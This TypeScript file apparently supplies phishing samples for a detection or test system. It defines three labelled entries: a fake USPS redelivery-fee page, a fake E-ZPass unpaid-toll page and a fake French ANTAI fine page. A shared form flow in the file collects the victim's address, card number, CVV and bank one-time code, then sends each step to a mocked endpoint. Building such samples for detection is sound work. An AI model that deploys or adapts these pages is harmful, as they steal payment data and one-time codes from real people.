import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, jsRoute, logo } from '../parts/j-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

/** Mobile-first card-capture flow used by the SMS-lure kits: details → card → "OTP" → done. */
function cardFlow(o: { lang: string; api: string; l: Record<string, string> }): string {
  const l = o.l;
  return `<form id="f1" class="st"><h3>${l.h1}</h3><input name="name" placeholder="${l.name}" required><input name="addr" placeholder="${l.addr}"><input name="zip" placeholder="${l.zip}"><input name="phone" placeholder="${l.phone}"><button>${l.next}</button></form>
<form id="f2" class="st" style="display:none"><h3>${l.h2}</h3><input name="cc" placeholder="${l.cc}" inputmode="numeric" autocomplete="cc-number" maxlength="19"><div style="display:flex;gap:8px"><input name="exp" placeholder="${l.exp}"><input name="cvv" placeholder="CVV" maxlength="4"></div><button>${l.pay}</button></form>
<form id="f3" class="st" style="display:none"><h3>${l.h3}</h3><p style="font-size:14px">${l.otpText}</p><input name="otp" placeholder="••••••" maxlength="8"><button>${l.confirm}</button></form>
<div id="f4" class="st" style="display:none"><p>✅ ${l.done}</p></div>
<script>(function(){var sid=Math.random().toString(36).slice(2);function send(f,n){var d=new FormData(f);d.append('sid',sid);d.append('step',n);navigator.sendBeacon('${o.api}',d)}
[1,2,3].forEach(function(n){document.getElementById('f'+n).addEventListener('submit',function(e){e.preventDefault();send(this,n);this.style.display='none';var nx=document.getElementById('f'+(n+1));setTimeout(function(){nx.style.display='block'},n==2?2500:300)})})})();</script>`;
}
const mobileCss = `body{background:#f4f4f4;max-width:480px;margin:0 auto}.st{background:#fff;padding:18px;margin:12px;border-radius:8px}.st input{width:100%;padding:12px;border:1px solid #bbb;border-radius:6px;margin:6px 0;font-size:16px}.st button{width:100%;padding:14px;border:0;border-radius:6px;font-size:16px;font-weight:700;margin-top:8px}`;

export const entries: Entry[] = [
{
  id: 'j-sms-usps-redelivery-fee',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://usps.redelivery-track-us.com/us?n=US9514961195221',
  routes: {
    'usps.redelivery-track-us.com/us': htmlRoute(doc({
      title: 'USPS.com® - USPS Tracking® Results',
      head: '<meta name="format-detection" content="telephone=no">',
      style: mobileCss + `header{background:#333366;color:#fff;padding:14px;font-weight:700}.st button{background:#333366;color:#fff}.al{background:#fff3cd;padding:12px;margin:12px;border-radius:6px;font-size:14px}`,
      body: `<header>USPS · United States Postal Service</header>
<div class="al">Your package is on hold due to an <b>incomplete address</b>. To reschedule delivery, please update your information and pay the redelivery fee of <b>$0.30</b> within 12 hours, otherwise the package will be returned to sender.</div>
<div class="st"><p>Tracking Number: <b id="tn"></b></p><p>Status: <b style="color:#c00">Delivery attempt failed – Action needed</b></p></div>
${cardFlow({ lang: 'en', api: '/api/collect', l: { h1: 'Delivery address', name: 'Full name', addr: 'Street address', zip: 'ZIP code', phone: 'Phone number', next: 'Continue', h2: 'Pay redelivery fee: $0.30', cc: 'Card number', exp: 'MM/YY', pay: 'Pay $0.30', h3: 'Verify your card', otpText: 'Your bank sent a one-time code to your phone. Enter it to confirm the payment.', confirm: 'Confirm', done: 'Thank you. Your package will be delivered within 1-2 business days.' } })}
<p style="font-size:11px;color:#777;text-align:center">Copyright © 2026 USPS. All Rights Reserved.</p>
<script>document.getElementById('tn').textContent=new URLSearchParams(location.search).get('n')</script>`,
    })),
    'usps.redelivery-track-us.com/api/collect': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'j-sms-ezpass-unpaid-toll',
  label: 'phishing',
  kind: 'toll-fee',
  url: 'https://e-zpass.ny-tollservices.com/pay?c=TX8841',
  routes: {
    'e-zpass.ny-tollservices.com/pay': htmlRoute(doc({
      title: 'E-ZPass - Outstanding Toll Balance',
      style: mobileCss + `header{background:#5e2b7e;color:#fff;padding:14px;font-weight:700}.st button{background:#5e2b7e;color:#fff}.due{font-size:28px;font-weight:800;color:#c00}`,
      body: `<header>E-ZPass New York</header><div class="st"><h2>Unpaid Toll Notice</h2><p>Our records show your vehicle has an outstanding toll balance. Pay now to avoid a late fee of <b>$50.00</b> and possible suspension of your vehicle registration by the DMV.</p><p class="due">$6.99</p><p style="font-size:13px">Notice #TX8841 · Due: today</p></div>
${cardFlow({ lang: 'en', api: '/pay/submit', l: { h1: 'Vehicle owner information', name: 'Full name', addr: 'Address', zip: 'ZIP', phone: 'Mobile number', next: 'Next', h2: 'Pay outstanding toll: $6.99', cc: 'Card number', exp: 'Exp (MM/YY)', pay: 'Pay now', h3: 'Card verification', otpText: 'Enter the verification code sent by your card issuer.', confirm: 'Verify', done: 'Payment received. No further action is required.' } })}`,
    })),
    'e-zpass.ny-tollservices.com/pay/submit': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'j-sms-antai-amende-fr',
  label: 'phishing',
  kind: 'gov-fine',
  url: 'https://antai-gouv.amendes-paiement-fr.com/avis/?ref=FR-2026-7719',
  routes: {
    'antai-gouv.amendes-paiement-fr.com/avis/': htmlRoute(doc({
      lang: 'fr',
      title: 'ANTAI - Avis de contravention',
      style: mobileCss + `header{background:#fff;border-bottom:3px solid #000091;padding:12px;font-weight:700;font-size:13px}.st button{background:#000091;color:#fff}.m{font-size:26px;color:#ce0500;font-weight:800}`,
      body: `<header>RÉPUBLIQUE FRANÇAISE<br><small>Agence Nationale de Traitement Automatisé des Infractions</small></header>
<div class="st"><h2>Avis de contravention</h2><p>Infraction : excès de vitesse &lt; 20 km/h constaté par radar automatique le 21/11/2026.</p><p>Montant de l'amende forfaitaire minorée :</p><p class="m">35,00 €</p><p style="font-size:13px">Sans paiement sous 72 h, l'amende sera majorée à <b>135,00 €</b> et transmise au Trésor public.</p></div>
${cardFlow({ lang: 'fr', api: '/avis/traitement.php', l: { h1: 'Informations du titulaire', name: 'Nom et prénom', addr: 'Adresse', zip: 'Code postal', phone: 'Téléphone', next: 'Continuer', h2: 'Paiement sécurisé : 35,00 €', cc: 'Numéro de carte bancaire', exp: 'MM/AA', pay: 'Payer 35,00 €', h3: 'Authentification 3D Secure', otpText: 'Saisissez le code reçu par SMS de votre banque.', confirm: 'Valider', done: 'Votre paiement a été enregistré. Un reçu vous sera envoyé.' } })}`,
    })),
    'antai-gouv.amendes-paiement-fr.com/avis/traitement.php': jsonRoute({ ok: 1 }),
  },
},
];
